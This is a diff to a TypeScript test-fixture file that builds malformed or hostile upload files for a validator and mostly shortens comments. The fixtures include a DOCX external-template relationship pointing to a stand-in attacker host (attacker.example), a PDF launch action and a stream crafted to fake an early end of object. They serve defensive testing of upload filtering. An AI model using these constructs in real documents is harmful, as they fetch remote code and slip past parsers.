@@ -6,7 +6,7 @@ import { makeDocx, makeZip } from './make-zip.ts';
 
 interface NastyFile {
   bytes: () => Buffer | Promise<Buffer>;
-  /** The error code `FILE_...` of a rejected file, otherwise the file's type and properties. */
+  /** The error code `FILE_...`, or the file's type and properties. */
   expected: string | { type: string; pages?: number; pixels?: { width: number; height: number } };
 }
 
@@ -37,7 +37,6 @@ async function pngOfSize(width: number, height: number): Promise<Buffer> {
   bytes.writeUInt32BE(height, 20);
   return bytes;
 }
-/** Creates a PNG with an animation control chunk. */
 async function movingPng(): Promise<Buffer> {
   const bytes = await picture().png().toBuffer();
   const control = Buffer.alloc(20);
@@ -57,9 +56,7 @@ const relationship = (type: string, target: string) =>
   `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
 const MEANINGS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 const FETCHED = `Type="${MEANINGS}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"`;
-/**
- * Returns a function that creates a DOCX with the given relationship, such as an external template.
- */
+/** For example, an external template. */
 const related = (attributes: string) => () =>
   relatedBy(`<Relationships><Relationship Id="r" ${attributes}/></Relationships>`);
 const relatedBy = (content: string | Buffer, name = 'word/_rels/settings.xml.rels') => makeDocx([{ name, content }]);
@@ -73,7 +70,7 @@ const launching =
     return makePdf({ objects: [Buffer.concat([Buffer.from(before), list])] });
   };
 const inHexadecimal = (content: Buffer) => Buffer.from(`${content.toString('hex')}>`);
-/** Compresses PDF stream content with the PNG predictor, as most PDF writers do for pictures. */
+/** Compresses with the PNG predictor, as most PDF writers do for pictures. */
 function inLines(content: Buffer): Buffer {
   const lines = Array.from({ length: Math.ceil(content.length / 4) }, (_, line) => [
     2,
@@ -81,10 +78,7 @@ function inLines(content: Buffer): Buffer {
   ]);
   return deflateSync(Buffer.from(lines.flat()));
 }
-/**
- * Compresses PDF stream content and adds an uncompressed block that looks like the end of the
- * object.
- */
+/** The uncompressed block looks like the end of the object. */
 function withEarlyEnd(content: Buffer): Buffer {
   const plain = Buffer.concat([content.subarray(0, 8), Buffer.from('%endstream endobj\n')]);
   const length = Buffer.alloc(4);
@@ -95,7 +89,6 @@ function withEarlyEnd(content: Buffer): Buffer {
   return Buffer.concat([Buffer.from('\x78\x01\0', 'latin1'), length, plain, deflateRawSync(rest), checksum]);
 }
 
-/** Files for upload fields that expect a PDF, DOC or DOCX. */
 export const NASTY_DOCUMENTS: Readonly<Record<string, NastyFile>> = {
   'nothing at all': { bytes: text(''), expected: 'FILE_EMPTY' },
   'one byte': { bytes: text('%'), expected: 'FILE_TYPE' },
@@ -522,7 +515,6 @@ export const NASTY_DOCUMENTS: Readonly<Record<string, NastyFile>> = {
   },
 };
 
-/** Files for upload fields that expect a picture or drawing. */
 export const NASTY_PICTURES: Readonly<Record<string, NastyFile>> = {
   'a PNG of 3,600 million pixels': { bytes: () => pngOfSize(60_000, 60_000), expected: 'FILE_TOO_COMPLEX' },
   'a PNG without pixels': { bytes: () => pngOfSize(0, 0), expected: 'FILE_UNREADABLE' },
